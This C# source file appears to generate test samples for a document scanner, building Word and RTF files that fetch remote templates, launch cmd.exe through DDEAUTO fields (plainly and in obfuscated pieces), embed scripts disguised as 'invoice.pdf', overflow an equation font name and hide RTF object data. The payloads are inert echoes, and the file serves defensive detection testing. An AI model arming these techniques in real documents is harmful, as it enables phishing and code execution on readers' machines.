using System.Text;
using Made = Sekisho.SampleMaker.Samples;

namespace Sekisho.SampleMaker.Catalogue;

/// <summary>Office documents and RTF that reach out, start something, or carry objects, without a macro.</summary>
internal static class Documents
{
    private const string Type = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
    private static readonly byte[] Object = new CompoundFileWriter().Add("x", new byte[100]).ToArray();

    public static IReadOnlyList<Sample> Samples { get; } =
    [
        Relation("remote-template", "A template fetched from the web", "attachedTemplate", "https://host.example/a.dotm"),
        Relation("shared-template", "A template on a file share", "attachedTemplate", @"file:///\\192.0.2.7\share\a.dotm"),
        Relation("shared-template-internet", "A template on a file share of the internet", "attachedTemplate", @"file:///\\files.host.example\share\a.dotm"),
        Relation("shared-template-web-dav", "A template on a share that is reached through the web", "attachedTemplate", @"file:///\\host.example@SSL\share\a.dotm"),
        Relation("shared-template-private", "A template on a private network's share", "attachedTemplate", @"file:///\\192.168.0.7\share\a.dotm"),
        Relation("honest-shared-template", "A template on the house's own file server; nothing is wrong", "attachedTemplate", @"file:///\\fileserver\share\a.dotm"),
        Relation("remote-object", "An object fetched from the web (mhtml: and its like)", "oleObject", "mhtml:https://host.example/x.html!x-usc:https://host.example/x.html"),
        Relation("remote-frame", "A frame fetched from the web", "frame", "http://host.example/f.htm"),
        Relation("remote-sub-document", "A part of the document fetched from the web", "subDocument", "http://host.example/f.docx"),
        Relation("hyperlink", "A link to a bare address", "hyperlink", "http://192.0.2.7/login"),
        Package("ole-object", "An embedded compound file", ("word/embeddings/oleObject1.bin", Object)),
        Package("ole-package", "A script wrapped as a package in a document", ("word/embeddings/oleObject1.bin", new CompoundFileWriter().Add("\u0001Ole10Native", CarrierWriter.Package("invoice.pdf", @"C:\x\invoice.js", "1;"u8.ToArray())).ToArray())),
        Package("activex", "An ActiveX control", ("word/activeX/activeX1.xml", "<?xml version=\"1.0\"?><ax:ocx ax:classid=\"{8856F961-340A-11D0-A96B-00C04FD705A2}\" ax:persistence=\"persistStreamInit\" xmlns:ax=\"http://schemas.microsoft.com/office/2006/activeX\"/>"u8.ToArray())),
        Package("custom-ui", "A ribbon whose loading calls a macro", ("customUI/customUI.xml", "<customUI xmlns=\"http://schemas.microsoft.com/office/2006/01/customui\" onLoad=\"Start\"/>"u8.ToArray())),
        Body("dde-field", "DDEAUTO in a field", "<w:fldSimple w:instr=' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k echo harmless\" '/>"),
        Body("dde-split-runs", "DDEAUTO in pieces", "<w:r><w:fldChar w:fldCharType='begin'/></w:r><w:r><w:instrText>DD</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\windows\\\\system32\\\\c</w:instrText></w:r><w:r><w:instrText>md.exe \"/k echo harmless\"</w:instrText></w:r><w:r><w:fldChar w:fldCharType='end'/></w:r>"),
        Body("dde-quote", "DDE in numbers that a QUOTE field turns into letters", "<w:fldChar w:fldCharType='begin'/><w:fldChar w:fldCharType='begin'/><w:instrText> QUOTE 68 68 69 32 99 109 100 </w:instrText><w:fldChar w:fldCharType='end'/><w:instrText> x</w:instrText><w:fldChar w:fldCharType='end'/>"),
        Sample.Attached("dde-doc", "DDEAUTO in a Word 97 document", "paper.doc", () => new CompoundFileWriter().Add("WordDocument", [.. new byte[5000], 0x13, .. " DDEAUTO cmd.exe \"/k echo harmless\" "u8, 0x14, .. "x"u8, 0x15]).ToArray()),
        Sample.Attached("dde-xls", "DDE in an Excel 97 workbook", "list.xls", () =>
        {
            byte[] name = [.. "cmd\u0003/c echo harmless"u8];
            return new CompoundFileWriter().Add("Workbook", [0xAE, 1, (byte)(5 + name.Length), 0, 1, 0, (byte)name.Length, 0, 0, .. name, .. new byte[5000]]).ToArray();
        }),
        Sample.Attached("ole-package-doc", "A script wrapped as a package in a Word 97 document", "paper.doc", () => Old("ObjectPool/_1/\u0001Ole10Native", CarrierWriter.Package("invoice.pdf", @"C:\x\invoice.js", "1;"u8.ToArray()))),
        Sample.Attached("equation-exploit", "A formula whose font name is too long", "paper.doc", () => Old("ObjectPool/_1/Equation Native", [28, 0, .. new byte[26], 3, 1, 1, 3, 10, 10, 8, 1, 0, .. Encoding.ASCII.GetBytes(new string('A', 60)), 0])),
        Sample.Attached("equation-honest", "A formula; nothing is wrong", "paper.doc", () => Old("ObjectPool/_1/Equation Native", [28, 0, .. new byte[26], 3, 1, 1, 3, 10, 10, 8, 1, 0, .. "Times"u8, 0, 0, 0, 0, 0, 0])),
        Sample.Attached("script-moniker", "An object of the script moniker's class", "paper.bin", () => new CompoundFileWriter { ClassId = new Guid("06290BD3-48AA-11D2-8432-006008C3FBFC") }.Add("x", new byte[100]).ToArray()),
        Rtf("rtf-object", "An object in RTF", Objdata(Hex())),
        Rtf("rtf-package", "A script wrapped as a package in RTF", Objdata(CarrierWriter.RtfObject("Package", CarrierWriter.Package("a.js", @"C:\a.js", "1;"u8.ToArray())[4..]))),
        Rtf("rtf-program", "A program in an RTF object", Objdata(CarrierWriter.RtfObject("Package", CarrierWriter.Package("a.dat", @"C:\a.dat", Made.Program())[4..]))),
        Rtf("rtf-blanks-in-hex", "Blanks and line ends between the digits", Objdata(string.Join("\r\n\t", Hex().Chunk(7).Select(c => new string(c))))),
        Rtf("rtf-groups-in-hex", "Groups between the digits", Objdata(Hex().Insert(30, "{").Insert(60, "}").Insert(90, @"{\*\zzz 414141}"))),
        Rtf("rtf-escapes-in-hex", "Escapes and control words between the digits", Objdata(Hex()[..40] + @"\mmath " + Hex()[40..].Insert(20, @"a\'bb"))),
        Rtf("rtf-template", "A template fetched from the web", @"{\*\template http://host.example/a.dotm}x"),
        Rtf("rtf-objupdate", "An object that loads itself", @"{\object\objemb\objupdate{\*\objclass X}{\*\objdata " + Hex() + "}}"),
        Rtf("rtf-objupdate-empty", "An object that loads itself, and is not there", @"{\object\objemb\objupdate{\*\objclass X}{\*\objdata 0105}}"),
        Rtf("rtf-equation", "A formula that is none", Objdata(CarrierWriter.RtfObject("Equation.3", new byte[50]))),
        Rtf("rtf-dde", "DDEAUTO in pieces of groups", @"{\field{\*\fldinst { DDE}{AUTO cmd.exe ""/k echo harmless""}}{\fldrslt x}}"),
        Sample.Attached("rtf-half-header", "RTF with half a header", "paper.doc", @"{\rtA hello}"),
        Rtf("honest-rtf", "RTF; nothing is wrong", @"\ansi text\par"),
        Relation("honest-local-template", "A template on the writer's own disk; nothing is wrong", "attachedTemplate", @"file:///C:\Users\alice\Templates\Normal.dotm"),
    ];

    private static Sample Relation(string name, string shows, string type, string target) =>
        Sample.Attached(name, shows, "paper.docx", () => CarrierWriter.WordPackage($"<Relationship Id=\"r1\" Type=\"{Type}{type}\" Target=\"{target}\" TargetMode=\"External\"/>", "<w:p/>"));

    private static Sample Body(string name, string shows, string body) => Sample.Attached(name, shows, "paper.docx", () => CarrierWriter.WordPackage("", body));

    private static Sample Package(string name, string shows, (string Name, byte[] Content) member) => Sample.Attached(name, shows, "paper.docx", () => ZipWriter.Plain(
        ("[Content_Types].xml", "<Types><Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>"u8.ToArray()),
        ("word/document.xml", "<?xml version=\"1.0\"?><w:document/>"u8.ToArray()), member));

    private static Sample Rtf(string name, string shows, string body) => Sample.Attached(name, shows, "paper.rtf", @"{\rtf1 " + body + "}");

    private static string Objdata(string hex) => @"{\object\objemb{\*\objdata " + hex + "}}";

    private static string Hex() => CarrierWriter.RtfObject("Word.Document.8", Object);

    private static byte[] Old(string stream, byte[] content) => new CompoundFileWriter().Add("WordDocument", new byte[5000]).Add(stream, content).ToArray();
}
